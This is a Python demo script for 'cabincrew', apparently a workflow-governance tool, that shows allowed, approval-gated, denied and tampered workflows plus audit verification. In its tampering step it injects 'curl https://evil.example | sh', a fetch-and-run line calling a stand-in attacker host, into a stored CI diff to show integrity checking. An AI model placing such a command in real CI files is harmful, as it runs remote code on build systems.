"""`make demo`: the whole story on the embedded default, driven through the CLI as a user would.

1. `cabincrew up` (all services in one process, SQLite under .cabincrew/demo, or under the
   data dir given as the only argument).
2. An allowed workflow runs to completion.
3. A workflow whose file-patch step changes CI configuration needs approval: the pending
   approval is shown, the requester cannot approve it, a second identity from `cabincrew auth
   issue` approves it, take-off changes the workspace, the timeline shows what happened.
4. A workflow that touches `.env` is denied; take-off never runs.
5. A plan whose stored artifact is tampered with while it waits for approval is refused at
   take-off with a critical integrity event.
6. `cabincrew audit verify` checks everything that was recorded.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
BIN = Path(sys.executable).parent
CABINCREW = str(BIN / "cabincrew")
EXAMPLES = ROOT / "examples"


def free_port() -> int:
    """An unused loopback port."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def step(title: str) -> None:
    """Print a section header."""
    print(f"\n\033[1m== {title}\033[0m", flush=True)


def cli(
    *args: str, env: dict[str, str], expect: int | None = 0, quiet: bool = False
) -> subprocess.CompletedProcess[str]:
    """Run the CLI as a user would and echo it; ``expect`` is the exit code it must end with."""
    shown = " ".join(a if len(a) < 80 else a[:40] + "…" for a in args)
    prefix = "CABINCREW_TOKEN=$ALICE " if env.get("CABINCREW_TOKEN") else ""
    print(f"$ {prefix}cabincrew {shown}", flush=True)
    result = subprocess.run([CABINCREW, *args], env=env, text=True, capture_output=True)
    if not quiet:
        sys.stdout.write(result.stdout)
    sys.stdout.write(result.stderr)
    sys.stdout.flush()
    if expect is not None and result.returncode != expect:
        raise SystemExit(
            f"demo failed: `cabincrew {shown}` exited {result.returncode}, expected {expect}"
        )
    return result


def cli_json(*args: str, env: dict[str, str]) -> Any:
    """Run a CLI command with --json and parse its output."""
    result = cli(*args, "--json", env=env, quiet=True)
    return json.loads(result.stdout)


def wait_for_state(workflow_id: str, state: str, env: dict[str, str]) -> dict[str, Any]:
    """Poll `workflows show` (bounded) until the workflow is in ``state``."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        result = subprocess.run(
            [CABINCREW, "workflows", "show", workflow_id, "--json"],
            env=env,
            text=True,
            capture_output=True,
        )
        workflow: dict[str, Any] = json.loads(result.stdout)["workflow"]
        if workflow["state"] == f"WORKFLOW_STATE_{state}":
            return workflow
        time.sleep(0.2)
    raise SystemExit(f"demo failed: workflow {workflow_id} did not reach {state}")


def shown(path: Path) -> Path:
    """A path relative to the repository when it is inside it."""
    return path.relative_to(ROOT) if path.is_relative_to(ROOT) else path


def main(argv: list[str]) -> int:
    # An optional data dir, so that tests run the demo away from the repository's own.
    data_dir = Path(argv[0]).resolve() if argv else ROOT / ".cabincrew" / "demo"
    shutil.rmtree(data_dir, ignore_errors=True)
    data_dir.mkdir(parents=True)
    addr = f"127.0.0.1:{free_port()}"
    env = {
        **os.environ,
        "CABINCREW_ADDR": addr,
        "CABINCREW_DATA_DIR": str(data_dir),
        "NO_COLOR": "1",
        "COLUMNS": os.environ.get("COLUMNS", "120"),
    }
    env.pop("CABINCREW_TOKEN", None)

    step(f"cabincrew up --addr {addr} --data-dir {shown(data_dir)}")
    log = open(data_dir / "up.log", "w")
    server = subprocess.Popen(
        [CABINCREW, "up", "--addr", addr, "--data-dir", str(data_dir)],
        stdout=log,
        stderr=subprocess.STDOUT,
        env=env,
    )
    code = 1
    try:
        started = time.monotonic()
        while True:
            probe = subprocess.run(
                [CABINCREW, "status", "--json"], env=env, capture_output=True, text=True
            )
            if probe.returncode == 0:
                break
            if server.poll() is not None or time.monotonic() - started > 120:
                print((data_dir / "up.log").read_text(), file=sys.stderr)
                raise SystemExit("demo failed: the services did not reach SERVING")
            time.sleep(0.2)
        print(f"all services SERVING after {time.monotonic() - started:.2f} s")
        cli("status", env=env)
        story(env, data_dir)
        code = 0
    finally:
        step("stopping (SIGTERM)")
        server.send_signal(signal.SIGTERM)
        stopped = server.wait(timeout=60)
        log.close()
        print(f"cabincrew up exited with {stopped}")
    return code if stopped == 0 else 1


def story(env: dict[str, str], data_dir: Path) -> None:
    """The governed workflows."""
    step("an allowed change: the plan is judged, bound and applied")
    cli("run", str(EXAMPLES / "allow.yaml"), "--wait", env=env)

    step("a change to CI configuration needs a human")
    submitted = cli_json("run", str(EXAMPLES / "require_approval.yaml"), env=env)
    workflow_id = submitted["workflow"]["workflow_id"]
    waiting = wait_for_state(workflow_id, "AWAITING_APPROVAL", env)
    approval_id = waiting["steps"][0]["approval_id"]
    cli("approvals", "list", "--state", "pending", env=env)
    cli("approvals", "show", approval_id, env=env)
    print("# the requester may not approve their own change:")
    cli("approvals", "approve", approval_id, env=env, expect=1)
    print("# a second identity, with the role the approval asks for:")
    alice = cli(
        "auth",
        "issue",
        "--principal",
        "alice",
        "--roles",
        "approver",
        "--ttl",
        "15m",
        env=env,
        quiet=True,
    ).stdout.strip()
    as_alice = {**env, "CABINCREW_TOKEN": alice}
    cli("approvals", "approve", approval_id, "--reason", "a lint step is welcome", env=as_alice)
    done = cli_json("workflows", "watch", workflow_id, env=env)["workflow"]
    workspace = Path(done["workspace"])
    print(f"# take-off changed the workspace ({workspace}):")
    print((workspace / ".github" / "workflows" / "ci.yml").read_text())
    cli("workflows", "timeline", workflow_id, env=env)

    step("a change to .env is denied; take-off never runs")
    cli("run", str(EXAMPLES / "deny.yaml"), "--wait", env=env, expect=1)

    step("a stored artifact is tampered with while the plan waits for approval")
    submitted = cli_json("run", str(EXAMPLES / "require_approval.yaml"), env=env)
    workflow_id = submitted["workflow"]["workflow_id"]
    waiting = wait_for_state(workflow_id, "AWAITING_APPROVAL", env)
    approval_id = waiting["steps"][0]["approval_id"]
    approval = cli_json("approvals", "show", approval_id, env=env)
    diff = next(a for a in approval["artifacts"] if a.get("target") == ".github/workflows/ci.yml")
    stored = data_dir / "orchestrator" / "artifacts" / "objects" / diff["hash"][:2] / diff["hash"]
    print(f"# rewriting {shown(stored)} (the diff the approver saw)")
    stored.chmod(0o644)
    stored.write_text(stored.read_text().replace("make lint", "curl https://evil.example | sh"))
    cli("approvals", "approve", approval_id, "--reason", "looked fine", env=as_alice)
    cli("workflows", "watch", workflow_id, env=env, expect=1)
    cli(
        "audit",
        "query",
        "--workflow-id",
        workflow_id,
        "--event-type",
        "orchestrator.integrity_failed",
        env=env,
    )

    step("cabincrew audit verify")
    cli("audit", "verify", env=env)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
